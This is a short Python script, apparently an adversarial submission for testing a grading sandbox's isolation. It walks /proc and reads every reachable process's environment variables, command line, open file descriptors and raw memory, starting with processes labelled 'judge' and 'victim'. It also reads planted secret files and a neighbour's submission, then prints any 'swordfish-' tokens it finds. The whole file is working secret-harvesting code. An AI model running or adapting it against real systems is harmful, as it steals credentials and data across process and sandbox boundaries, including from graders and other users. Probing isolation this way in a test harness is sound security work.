"""Reads the environment, memory, folders and descriptors of every process that there may be, the judge's first."""
import os
import re
# --- the network ---


def read(path, size=1 << 20):
    try:
        with open(path, "rb", buffering=0) as file:
            return file.read(size)
    except (OSError, ValueError):
        return b""


def memory(pid):
    """All that process `pid` can be seen to hold."""
    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        first, last = (int(word, 16) for word in line.split()[0].split("-"))
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
                file.seek(first)
                yield file.read(min(last - first, 8 << 20))
        except (OSError, ValueError, OverflowError):
            continue


def everything():
    mine = os.getpid()
    numbers = [name for name in os.listdir("/proc") if name.isdigit()] if os.access("/proc", os.R_OK) else []
    for pid in {WORLD["judge"], WORLD["victim"], 1, 2, *map(int, numbers)}:
        for name in ("environ", "cmdline", "auxv", "root/etc/hostname", "cwd/secret.txt"):
            yield read(f"/proc/{pid}/{name}")
        for place in [*WORLD["planted"], WORLD["state"] + "/neighbour/submission"]:
            yield read(f"/proc/{pid}/root{place}/secret.txt")
        for number in range(32):
            yield read(f"/proc/{pid}/fd/{number}") if pid != mine else b""
        if pid != mine:
            yield from memory(pid)


for text in everything():
    for found in re.findall(rb"swordfish-\w+", text):
        print("found", found)
